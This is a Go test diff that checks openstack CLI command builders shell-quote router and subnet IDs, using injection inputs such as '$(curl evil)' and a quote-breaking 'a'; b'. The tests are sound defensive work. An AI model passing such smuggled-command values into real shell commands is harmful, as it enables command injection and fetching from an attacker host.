@@ -46,6 +46,12 @@ func TestOnlyThisPackageHasCommands(t *testing.T) {
 	}
 }
 
+func TestAnIDIsOneWord(t *testing.T) {
+	expect.Equal(t, `openstack router show '$(curl evil)'`, ShowRouter("$(curl evil)"), "the command")
+	expect.Equal(t, `openstack subnet delete 'a'\''; b'`, DeleteSubnet("a'; b"), "the command")
+	expect.Equal(t, "openstack router show 5a4b-1", ShowRouter("5a4b-1"), "the command")
+}
+
 func TestDescriptionIsOneWord(t *testing.T) {
 	expect.Equal(t, `openstack network set --description 'it'\''s $(mine)' 4711`, DescribeNetwork("4711", "it's $(mine)"),
 		"the command")
